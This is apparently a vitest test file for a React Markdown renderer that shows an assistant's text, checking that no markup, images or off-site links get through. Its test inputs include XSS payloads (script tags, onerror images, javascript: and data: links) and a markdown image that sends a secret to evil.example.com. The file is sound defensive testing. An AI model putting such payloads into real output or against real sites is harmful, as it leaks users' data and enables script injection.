// Owns the promise that an assistant's text can never become markup, an image or a foreign link.
import { render } from "@testing-library/react";
import { describe, expect, it } from "vitest";
import { Markdown, plainText, safeHref } from "./markdown";

const html = (source: string): string => render(<Markdown source={source} />).container.innerHTML;

describe("marks", () => {
  it.each([
    ["**bold** text", "<p><strong>bold</strong> text</p>"],
    ["an *em* and _another_", "<p>an <em>em</em> and <em>another</em></p>"],
    ["**bold *and* em**", "<p><strong>bold <em>and</em> em</strong></p>"],
    ["- one\n- two", "<ul><li>one</li><li>two</li></ul>"],
    ["2. two\n3. three", '<ol start="2"><li>two</li><li>three</li></ol>'],
    ["Times:\n- one\n\nDone", "<p>Times:</p><ul><li>one</li></ul><p>Done</p>"],
    ["one\ntwo", "<p>one<br>two</p>"],
    ["## Prices", "<p><strong>Prices</strong></p>"],
    ["5 * 3 * 2", "<p>5 * 3 * 2</p>"],
    ["snake_case_name", "<p>snake_case_name</p>"],
    ["**open", "<p>**open</p>"],
    ["", ""],
  ])("%j", (source, expected) => expect(html(source)).toBe(expected));
});

describe("hostile text stays text", () => {
  it.each([
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "![pixel](https://evil.example.com/leak?c=secret)",
    "![pixel](/api/chat/x/context)",
    "[here](javascript:alert(1))",
    "[here](JaVaScRiPt:alert(1))",
    "[here](data:text/html,<script>alert(1)</script>)",
    "[here](vbscript:msgbox)",
    "[here](//evil.example.com)",
    "[here](\\\\evil.example.com)",
    "[here](https://evil.example.com/?c=secret)",
    "[here](https://user:pw@localhost:3000/)",
    "[here](blob:http://localhost:3000/abc)",
    "[here](tel:javascript)",
    "https://evil.example.com/path",
    "**[bold](javascript:alert(1))**",
    "&lt;b&gt;",
    "[a](x onclick=alert)",
  ])("%s", (source) => {
    const { container } = render(<Markdown source={source} />);
    expect(container.querySelector("script, img, iframe, object, svg, style")).toBeNull();
    for (const link of container.querySelectorAll("a"))
      expect(new URL(link.href).origin).toBe(window.location.origin);
    expect(container.innerHTML).not.toMatch(/<[^>]+\son\w+=/i);
  });

  it("shows a foreign address as words", () => {
    expect(html("see https://evil.example.com/a.")).toBe("<p>see https://evil.example.com/a.</p>");
  });

  it("stays quick on a text made to be slow", () => {
    const started = performance.now();
    html("**".repeat(2_000) + "[".repeat(2_000) + "_a".repeat(2_000));
    expect(performance.now() - started).toBeLessThan(2_000);
  });
});

describe("links", () => {
  it("lead to this site", () => {
    const { container } = render(<Markdown source="[calendar](/api/chat/x/appointment.ics)" />);
    expect(container.querySelector("a")?.href).toBe(
      `${window.location.origin}/api/chat/x/appointment.ics`,
    );
  });

  it("lead to a telephone", () => {
    expect(safeHref("tel:+12025550143")).toBe("tel:+12025550143");
    expect(safeHref("tel:+1 202;phone-context=x")).toBeNull();
  });
});

describe("plain text", () => {
  it("loses its marks for a screen reader", () => {
    expect(plainText("**Front brakes**:\n- pads\n- [call](tel:+12025550143)")).toBe(
      "Front brakes:\npads\ncall",
    );
  });
});
